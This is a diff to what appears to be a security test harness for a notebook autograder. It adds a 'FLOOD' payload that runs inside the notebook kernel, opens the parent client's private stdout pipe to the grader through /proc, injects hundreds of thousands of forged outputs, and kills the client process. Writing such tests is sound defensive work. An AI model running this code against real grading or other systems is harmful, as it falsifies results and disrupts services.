@@ -113,3 +113,31 @@ _hog = None
 
 # Attacks on the notebook file itself, applied to the control learner's notebook.
 NOTEBOOK_ATTACKS = ("edit_graded_cell", "delete_graded_cell", "change_grade_id", "fake_output", "corrupt_json")
+
+
+# The flood: in the notebook's kernel only (the grader's worker has no client to attack).
+FLOOD = r'''
+try:
+    get_ipython
+except NameError:
+    pass
+else:
+    import json as _json, os as _os, signal as _signal
+    from IPython.display import display as _display
+    for _ in range(20_000):                                   # through the notebook client
+        _display({"text/plain": "x"}, raw=True)
+    _client = _os.getppid()
+    _err = _os.readlink(f"/proc/{_client}/fd/2")
+    _one = _json.dumps({"output_type": "display_data", "data": {"text/plain": "x"}, "metadata": {}})
+    for _fd in _os.listdir(f"/proc/{_client}/fd"):
+        _link = _os.readlink(f"/proc/{_client}/fd/{_fd}")
+        if _link.startswith("pipe:") and _link != _err:     # the client's private stdout to the grader
+            try:
+                with open(f"/proc/{_client}/fd/{_fd}", "w") as _pipe:
+                    for _index in range(11, -1, -1):            # 300,000 outputs, straight to the grader
+                        _pipe.write('{"index": %d, "outputs": [%s]}\n' % (_index, ",".join([_one] * 25_000)))
+            except OSError:
+                pass
+    _os.kill(_client, _signal.SIGKILL)
+    _os._exit(0)
+'''
